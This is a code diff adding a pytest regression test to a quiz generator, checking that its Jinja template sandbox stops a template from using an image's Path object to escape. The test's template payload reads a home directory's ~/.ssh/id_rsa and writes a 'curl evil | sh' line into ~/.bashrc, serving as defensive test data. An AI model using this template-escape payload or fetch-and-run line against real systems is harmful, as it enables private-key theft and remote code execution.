@@ -21,6 +21,7 @@ from quizgen.cli import cli
 from quizgen.errors import QuizgenError
 
 from .conftest import write_project
+from .test_math_images import png
 from .test_sandbox import outputs
 
 SECRET = "s3cr3t-k3y-7f1c"
@@ -87,6 +88,32 @@ def test_a_template_cannot_reach_python_through_the_data_it_gets(
     message = attempt(lambda: pipeline.build(options(root)))
     assert not marker.exists()
     assert message is not None
+
+
+def test_a_template_cannot_read_or_write_files_through_an_images_path(
+    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options]
+) -> None:
+    # A card with an image gives the template its source as a Path, whose public methods Jinja's
+    # sandbox let it call: it read the key into the page and could write ~/.bashrc.
+    text = BASIC.replace('front: "What is a leaf tensor?"', 'front: "What is a leaf tensor? ![t](t.png)"')
+    root = write_project(tmp_path / "project", {"deck.yaml": text})
+    (root / "cards" / "t.png").write_bytes(png(1, 1))
+    marker = fake_home / ".bashrc"
+    quiz = root / "templates" / "quiz"
+    quiz.mkdir(parents=True)
+    each = "{% for c in cards %}{% for p in c.media.values() %}"
+    read = f"{{{{ p.resolve().joinpath({str(fake_home / '.ssh' / 'id_rsa')!r}).read_text() }}}}"
+    write = f"{{{{ p.resolve().joinpath({str(marker)!r}).write_text('curl evil | sh') }}}}"
+    (quiz / "deck.html").write_text(
+        '{% extends "default:quiz/deck.html" %}\n{% block footer %}\n'
+        f"{each}{read}{write}{{% endfor %}}{{% endfor %}}\n{{% endblock %}}\n"
+    )
+    message = attempt(lambda: pipeline.build(options(root)))
+    assert not marker.exists() and SECRET not in outputs(root)
+    assert message == (
+        f"{quiz / 'deck.html'}:3: access to attribute 'resolve' of 'PosixPath' object is unsafe. (templates "
+        "render in a sandbox that refuses this)"
+    )
 
 
 @pytest.mark.parametrize("link", ["file", "folder", "templates"])
